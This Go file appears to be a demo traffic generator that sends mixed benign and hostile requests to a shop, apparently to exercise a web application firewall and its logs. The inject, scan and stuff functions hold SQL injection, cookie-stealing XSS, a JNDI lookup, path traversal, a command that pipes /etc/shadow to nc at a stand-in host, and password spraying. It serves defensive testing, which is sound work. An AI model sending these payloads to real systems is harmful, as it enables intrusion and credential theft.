package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

// Addresses of the documentation ranges (RFC 5737, RFC 3849).
const (
	stuffer = "203.0.113.66" // tries passwords on the shop and on the mail server
	scanner = "203.0.113.9"
	injecto = "2001:db8:bad::1"
	editor  = "198.51.100.20"
)

// Those who scan and those who inject, the busiest first.
var (
	scanners  = []string{scanner, "203.0.113.20", "203.0.113.41", "203.0.113.85"}
	injectors = []string{injecto, "2001:db8:ba00::7", "203.0.113.52", "203.0.113.101"}
)

// traffic sends requests to the node, at a steady mean rate, and writes the
// lines that gateway and mail servers would write about the same clients.
type traffic struct {
	base   string
	rate   float64
	random *rand.Rand
	client *http.Client
	logs   *logs
	n      int
}

func newTraffic(base string, rate float64, seed int64, l *logs) *traffic {
	return &traffic{
		base: base, rate: rate, random: rand.New(rand.NewPCG(uint64(seed), 1)), logs: l,
		client: &http.Client{
			Timeout:       10 * time.Second,
			CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
		},
	}
}

// step is one request of a visitor.
type step struct {
	client, agent string
	method, path  string
	contentType   string
	body          string
}

func (t *traffic) run(ctx context.Context) {
	defer t.logs.flush()
	for ctx.Err() == nil {
		for _, s := range t.visit() {
			wait := time.Duration(t.random.ExpFloat64() / t.rate * float64(time.Second))
			select {
			case <-ctx.Done():
				return
			case <-time.After(wait):
			}
			if _, _, err := t.send(ctx, s); err != nil && ctx.Err() == nil {
				fmt.Fprintln(os.Stderr, "demo: send request:", err)
			}
		}
		t.logs.flush()
	}
}

// attackOnce sends one SQL injection and returns the id of the request.
func (t *traffic) attackOnce(ctx context.Context) (id string, status int, err error) {
	s := step{client: injecto, agent: agents[0], method: "GET", path: "/catalog?id=" + url.QueryEscape("1' UNION SELECT password FROM users--")}
	return t.send(ctx, s)
}

func (t *traffic) send(ctx context.Context, s step) (id string, status int, err error) {
	t.n++
	id = fmt.Sprintf("demo-%d-%06d", time.Now().Unix(), t.n)
	req, err := http.NewRequestWithContext(ctx, s.method, t.base+s.path, strings.NewReader(s.body))
	if err != nil {
		return id, 0, err
	}
	req.Host = "shop.example"
	req.Header.Set("User-Agent", s.agent)
	req.Header.Set("X-Forwarded-For", s.client)
	req.Header.Set("X-Request-Id", id)
	req.Header.Set("Accept", "text/html,application/json;q=0.9,*/*;q=0.8")
	if s.contentType != "" {
		req.Header.Set("Content-Type", s.contentType)
	}
	start := time.Now()
	res, err := t.client.Do(req)
	if err != nil {
		return id, 0, err
	}
	n, _ := io.Copy(io.Discard, res.Body)
	res.Body.Close()
	t.logs.request(s, res.StatusCode, n, start, time.Since(start), id)
	return id, res.StatusCode, nil
}

var agents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
}

// visit makes the requests of the next visitor.
func (t *traffic) visit() []step {
	visitor := step{client: fmt.Sprintf("198.51.100.%d", 30+t.random.IntN(200)), agent: agents[t.random.IntN(len(agents))], method: "GET"}
	if t.random.IntN(5) == 0 {
		visitor.client = fmt.Sprintf("2001:db8:%x::%x", t.random.IntN(4096), 1+t.random.IntN(4096))
	}
	switch d := t.random.IntN(100); {
	case d < 55:
		return t.browse(visitor)
	case d < 65:
		return t.order(visitor)
	case d < 72:
		return t.upload(visitor)
	case d < 82:
		return t.write(visitor)
	case d < 88:
		return t.scan()
	case d < 95:
		return t.inject()
	}
	return t.stuff()
}

func get(v step, path string) step {
	v.method, v.path = "GET", path
	return v
}

func post(v step, path, contentType, body string) step {
	v.method, v.path, v.contentType, v.body = "POST", path, contentType, body
	return v
}

func form(v step, path string, pairs ...string) step {
	values := url.Values{}
	for i := 0; i+1 < len(pairs); i += 2 {
		values.Add(pairs[i], pairs[i+1])
	}
	return post(v, path, "application/x-www-form-urlencoded", values.Encode())
}

func (t *traffic) browse(v step) []step {
	words := []string{"floor lamp", "brass", "réading light", "灯", "table & chair", "o'brien desk"}
	return []step{
		get(v, "/"), get(v, "/static/site.css"),
		get(v, "/catalog?page="+fmt.Sprint(1+t.random.IntN(20))),
		get(v, "/search?q="+url.QueryEscape(words[t.random.IntN(len(words))])),
		get(v, fmt.Sprintf("/item/%d", 100+t.random.IntN(900))),
		form(v, "/cart", "item", fmt.Sprint(100+t.random.IntN(900)), "amount", "1"),
	}
}

func (t *traffic) order(v step) []step {
	body := fmt.Sprintf(`{"items":[{"id":%d,"amount":%d}],"note":"please ring twice","address":{"street":"1 Main St.","city":"Springfield"}}`,
		100+t.random.IntN(900), 1+t.random.IntN(3))
	return []step{
		form(v, "/login", "user", "ann", "password", "correct horse"),
		post(v, "/api/orders", "application/json", body),
	}
}

func (t *traffic) upload(v step) []step {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	part, _ := w.CreateFormFile("picture", "broken lamp.jpg")
	picture := make([]byte, 20_000+t.random.IntN(80_000))
	for i := range picture {
		picture[i] = byte(t.random.Uint32())
	}
	_, _ = part.Write(append([]byte{0xff, 0xd8, 0xff, 0xe0}, picture...)) // a buffer takes all
	_ = w.WriteField("text", "It came with a broken shade.")
	_ = w.Close()
	return []step{post(v, "/support/upload", w.FormDataContentType(), b.String())}
}

// write is what people write who mean no harm. CRS takes some of it for attacks.
func (t *traffic) write(v step) []step {
	posts := []string{
		"My report is slow: SELECT name, price FROM items WHERE price > 10 ORDER BY price; is an index on price enough?",
		"In the shop's theme I put <script src=\"/static/menu.js\"></script> before </body> and the menu works again.",
		"To see the log run: cat /etc/nginx/nginx.conf | grep access_log; then tail -f the file.",
		"The lamp is fine, the delivery was quick, thank you!",
	}
	v2 := v
	v2.client = editor
	rich := `<h2>News</h2><p style="color:#333">Our <a href="https://shop.example/item/7" onclick="track('news')">new lamp</a> is here.</p><iframe src="https://video.example/embed/9"></iframe>`
	return []step{
		get(v, "/forum"),
		form(v, "/forum/post", "topic", "help", "text", posts[t.random.IntN(len(posts))]),
		form(v2, "/blog/save", "title", "A new lamp", "html", rich),
	}
}

// one returns one of several, the first the most often.
func (t *traffic) one(of []string) string {
	return of[min(t.random.IntN(len(of)), t.random.IntN(len(of)))]
}

func (t *traffic) scan() []step {
	v := step{client: t.one(scanners), agent: "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", method: "GET"}
	var all []step
	for _, p := range []string{"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/server-status", "/../../../../etc/passwd", "/backup.sql", "/cgi-bin/test.cgi"} {
		all = append(all, get(v, p))
	}
	return all
}

func (t *traffic) inject() []step {
	v := step{client: t.one(injectors), agent: "python-requests/2.32.3", method: "GET"}
	payloads := []string{
		"/catalog?id=" + url.QueryEscape("1' OR '1'='1' --"),
		"/catalog?id=" + url.QueryEscape("1;WAITFOR DELAY '0:0:5'--"),
		"/search?q=" + url.QueryEscape("<img src=x onerror=alert(document.cookie)>"),
		"/search?q=" + url.QueryEscape("${jndi:ldap://203.0.113.99/a}"),
		"/item/1?file=" + url.QueryEscape("../../../../../etc/passwd"),
		"/search?q=" + url.QueryEscape("; cat /etc/shadow | nc 203.0.113.99 4444"),
	}
	var all []step
	for range 3 {
		all = append(all, get(v, payloads[t.random.IntN(len(payloads))]))
	}
	return append(all, form(v, "/forum/post", "text", "<svg/onload=fetch('//203.0.113.99/'+document.cookie)>"))
}

// stuff tries passwords on the shop, and at the same moment on the mail server.
func (t *traffic) stuff() []step {
	v := step{client: stuffer, agent: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)"}
	var all []step
	for _, user := range []string{"admin", "root", "info", "sales", "ann"} {
		all = append(all, form(v, "/login", "user", user, "password", fmt.Sprintf("Winter%d!", 2020+t.random.IntN(7))))
		t.logs.mailLogin(stuffer, user)
	}
	return all
}
